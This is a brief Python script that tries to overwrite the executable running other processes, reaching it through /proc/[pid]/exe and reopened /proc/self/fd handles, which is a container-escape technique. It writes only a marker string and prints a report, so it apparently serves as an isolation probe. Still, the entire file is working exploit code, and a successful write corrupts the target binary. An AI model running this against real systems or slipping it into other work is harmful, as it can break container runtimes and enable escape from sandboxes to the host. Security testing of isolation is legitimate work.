"""Overwrites the program that runs others here, through /proc: MARKER [PATH...]"""
import glob, os, sys, time

inside = os.getpid() < 100  # on the host only what was planted for it
paths = (glob.glob("/proc/[0-9]*/exe") if inside else []) + sys.argv[2:]
handles = []
for path in paths:
    try:
        handles.append((path, os.open(path, os.O_RDONLY)))
    except OSError as error:
        print(path, error.strerror)
end = time.monotonic() + 1
while time.monotonic() < end:
    for path, handle in handles:
        for way in (path, f"/proc/self/fd/{handle}"):
            try:
                target = os.open(way, os.O_WRONLY)
                os.write(target, b"#!overwritten")
                print("OVERWROTE", os.readlink(f"/proc/self/fd/{target}"))
                os.close(target)
            except OSError:
                pass
    time.sleep(0.05)
print("tried", len(handles))
